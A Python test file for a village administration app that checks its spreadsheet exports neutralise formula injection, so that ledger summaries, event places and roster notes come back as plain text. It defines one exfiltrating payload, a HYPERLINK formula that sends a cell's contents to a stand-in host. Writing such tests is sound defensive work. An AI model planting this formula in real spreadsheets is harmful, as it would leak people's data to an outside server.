"""Issue 15 point 5: exports carry data, never formulas (desktop.core.sheets.keep_as_text).

Each check opens the saved .xlsx as the zip it is and looks for formula elements (<f>), so a
cell openpyxl would write as a formula is caught however it was made.
"""
from __future__ import annotations

import zipfile

from openpyxl import Workbook, load_workbook

from desktop.core import village
from desktop.core.funds import accounts, ledger, report, xlsx
from desktop.core.redwhite import events, export as redwhite_export, standards
from desktop.core.roster import excel_export, excel_import as X, people
from desktop.core.sheets import neutralise_book

LEAK = '=HYPERLINK("http://x?leak="&B2,"详情")'


def _formulas(path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [name for name in z.namelist() if name.startswith("xl/worksheets/")
                and b"<f>" in z.read(name) or b"<f " in z.read(name)]


def _cells_with(path, text: str) -> list:
    wb = load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]


def test_every_formula_start_is_kept_as_text_and_numbers_stay_numbers(tmp_path):
    wb = Workbook()
    texts = [LEAK, "+1+2", "-3+4", "@SUM(A1:A2)", "\t=1", "\r=1"]
    wb.active.append(texts + [-5, -12.5, "普通文字", "A=B"])
    neutralise_book(wb)
    wb.save(tmp_path / "t.xlsx")
    assert _formulas(tmp_path / "t.xlsx") == []
    back = load_workbook(tmp_path / "t.xlsx").active
    values = [c.value for c in back[1]]
    assert values[:5] == texts[:5]                   # the same text comes back
    assert values[5] == "\n=1"                       # (XML keeps a lone CR as a line feed)
    assert values[6:8] == [-5, -12.5] and back["G1"].data_type == "n"
    assert [c.quotePrefix for c in back[1]][:6] == [True] * 6
    assert not back["I1"].quotePrefix and not back["J1"].quotePrefix


def test_a_fund_entry_summary_never_becomes_a_formula_in_the_report(store, tmp_path):
    fund = accounts.add_fund(store, "村集体资金", source="集体收入", opening_fen=100_000, opening_date="2025-01-01")
    ledger.add_entry(store, fund, "expense", 12_345, "2025-01-20", "办公费", LEAK, counterparty="@某单位", post=True)
    out = xlsx.write_xlsx(report.build_report(store, "2025-Q1"), tmp_path / "q1.xlsx")
    assert _formulas(out) == []
    assert _cells_with(out, LEAK) and _cells_with(out, "@某单位")


def test_a_red_white_event_place_never_becomes_a_formula(store, tmp_path):
    g1 = village.groups(store)[0]["id"]
    hh = people.add_household(store, hh_no="0001", group_id=g1)
    host = people.add_person(store, household_id=hh, name="王德胜", gender="男", relation="户主",
                             birth_date="1958-03-02")
    standards.adopt_example(store, "2025-01-01")
    events.add_event(store, kind="婚事", host_person_id=host, start_date="2025-05-10", report_date="2025-04-20",
                     plan={"tables": 18, "cost_per_table_fen": 280_00, "guests": 170, "cars": 4,
                           "bride_price_fen": 20_000_00, "gift_fen": 100_00}, place=LEAK)
    out = redwhite_export.export_year(store, 2025, tmp_path / "rw.xlsx")
    assert _formulas(out) == []
    assert _cells_with(out, LEAK)


def test_a_roster_import_keeps_formula_text_as_text_and_the_export_too(store, tmp_path):
    sheet = tmp_path / "in.csv"
    sheet.write_text(f'户号,姓名,性别,备注\nH1,王德胜,男,"{LEAK.replace(chr(34), chr(34) * 2)}"\n', encoding="utf-8")
    table = X.read_table(sheet)
    result = X.run_import(store, table, X.guess_mapping(table))
    assert result.added == 1
    assert store.scalar("SELECT note FROM person WHERE name='王德胜'") == LEAK
    out = tmp_path / "out.xlsx"
    excel_export.export_roster(store, out)
    assert _formulas(out) == []
    assert _cells_with(out, LEAK)
